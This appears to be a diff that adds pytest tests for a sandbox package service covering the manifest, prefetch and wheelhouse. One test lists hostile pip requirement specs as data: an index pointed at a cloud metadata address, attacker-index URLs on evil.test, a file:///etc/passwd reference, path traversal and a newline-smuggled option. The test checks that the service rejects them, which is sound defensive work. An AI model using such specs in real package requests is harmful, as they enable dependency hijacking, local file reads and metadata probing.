@@ -0,0 +1,126 @@
+"""沙盒依赖包清单与 wheelhouse 测试。"""
+
+import importlib.util
+import json
+from pathlib import Path
+from types import ModuleType
+from typing import List
+
+import pytest
+
+from nekro_agent.services.sandbox import package_service
+from nekro_agent.services.sandbox.package_service import SandboxPackageService
+
+EXT_CALLER_CODE = Path(__file__).resolve().parents[1] / "nekro_agent" / "services" / "sandbox" / "ext_caller_code.py"
+
+
+def _load_api_caller() -> ModuleType:
+    spec = importlib.util.spec_from_file_location("_test_api_caller_packages", EXT_CALLER_CODE)
+    assert spec and spec.loader
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+def _make_service(tmp_path: Path) -> SandboxPackageService:
+    package_dir = tmp_path / ".packages"
+    wheelhouse_dir = tmp_path / ".wheelhouse"
+    (package_dir / "beautifulsoup4-4.12.3.dist-info").mkdir(parents=True)
+    (package_dir / "bs4").mkdir()
+    wheelhouse_dir.mkdir()
+    (wheelhouse_dir / "python_dateutil-2.9.0.post0-py2.py3-none-any.whl").write_bytes(b"")
+    (wheelhouse_dir / "beautifulsoup4-4.12.3-py3-none-any.whl").write_bytes(b"")
+    return SandboxPackageService(package_dir=package_dir, wheelhouse_dir=wheelhouse_dir)
+
+
+def test_manifest_maps_names_to_versions_and_paths(tmp_path: Path) -> None:
+    service = _make_service(tmp_path)
+
+    manifest_path = service.ensure_manifest()
+    packages = json.loads(manifest_path.read_text(encoding="utf-8"))["packages"]
+
+    assert packages["beautifulsoup4"]["4.12.3"] == {
+        "installed": "/app/packages/beautifulsoup4-4.12.3.dist-info",
+        "wheel": "/app/wheelhouse/beautifulsoup4-4.12.3-py3-none-any.whl",
+    }
+    assert packages["python-dateutil"]["2.9.0.post0"] == {
+        "wheel": "/app/wheelhouse/python_dateutil-2.9.0.post0-py2.py3-none-any.whl",
+    }
+
+    # 目录未变化时不重新生成
+    mtime = manifest_path.stat().st_mtime_ns
+    service.ensure_manifest()
+    assert manifest_path.stat().st_mtime_ns == mtime
+
+
+def test_sandbox_resolves_from_manifest_without_scanning(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    service = _make_service(tmp_path)
+    api_caller = _load_api_caller()
+    monkeypatch.setattr(api_caller, "PACKAGE_MANIFEST_PATH", str(service.ensure_manifest()))
+
+    def fail_scan(*args, **kwargs):
+        raise AssertionError("命中清单时不应遍历已安装发行包")
+
+    monkeypatch.setattr(api_caller, "distributions", fail_scan)
+
+    assert api_caller._match_manifest_version("BeautifulSoup4", ">=4.0", "installed") == "4.12.3"
+    assert api_caller._match_manifest_version("beautifulsoup4", "<4.0", "installed") is None
+    assert api_caller._match_manifest_version("python_dateutil", "", "installed") is None
+    assert api_caller._match_manifest_version("python_dateutil", "", "wheel") == "2.9.0.post0"
+
+
+@pytest.mark.asyncio
+async def test_remote_installs_are_queued_for_prefetch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    service = _make_service(tmp_path)
+    prefetched: List[str] = []
+
+    async def fake_prefetch(spec: str) -> bool:
+        prefetched.append(spec)
+        return True
+
+    monkeypatch.setattr(service, "prefetch", fake_prefetch)
+    shared_dir = tmp_path / "sandbox_chat"
+    shared_dir.mkdir()
+    (shared_dir / "package_requests.json").write_text(
+        json.dumps([{"spec": "redis>=4.0.0", "mirror": "https://mirror/simple"}, {"spec": "redis>=4.0.0"}]),
+        encoding="utf-8",
+    )
+
+    assert len(service.collect_requests(shared_dir)) == 2
+    assert service._prefetch_task is not None
+    await service._prefetch_task
+
+    assert prefetched == ["redis>=4.0.0"]
+    assert not (shared_dir / "package_requests.json").exists()
+
+
+def test_malicious_package_requests_are_rejected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    service = _make_service(tmp_path)
+    enqueued: List[str] = []
+    monkeypatch.setattr(service, "enqueue_prefetch", lambda specs: enqueued.extend(specs))
+    monkeypatch.setattr(package_service.config, "DYNAMIC_PLUGIN_INSTALL_MIRROR", "https://pypi.org/simple")
+    shared_dir = tmp_path / "sandbox_chat"
+    shared_dir.mkdir()
+    malicious = [
+        "-r http://169.254.169.254/latest/meta-data",
+        "--extra-index-url=http://evil.test/simple",
+        "redis --index-url http://evil.test/simple",
+        "pkg @ https://evil.test/pkg.whl",
+        "pkg @ file:///etc/passwd",
+        "../../etc/passwd",
+        "./local_pkg",
+        "redis\n-r http://evil.test",
+    ]
+    (shared_dir / "package_requests.json").write_text(
+        json.dumps([{"spec": spec} for spec in malicious] + [{"spec": "requests[socks]==2.32.3", "mirror": "http://evil.test"}]),
+        encoding="utf-8",
+    )
+
+    assert service.collect_requests(shared_dir) == ["requests[socks]==2.32.3"]
+    assert enqueued == ["requests[socks]==2.32.3"]
+
+    # 镜像源取自主机配置，依赖说明位于 `--` 之后
+    cmd = service._download_cmd("requests[socks]==2.32.3")
+    assert cmd[cmd.index("--index-url") + 1] == "https://pypi.org/simple"
+    assert cmd[-2:] == ["--", "requests[socks]==2.32.3"]
+    assert "http://evil.test" not in cmd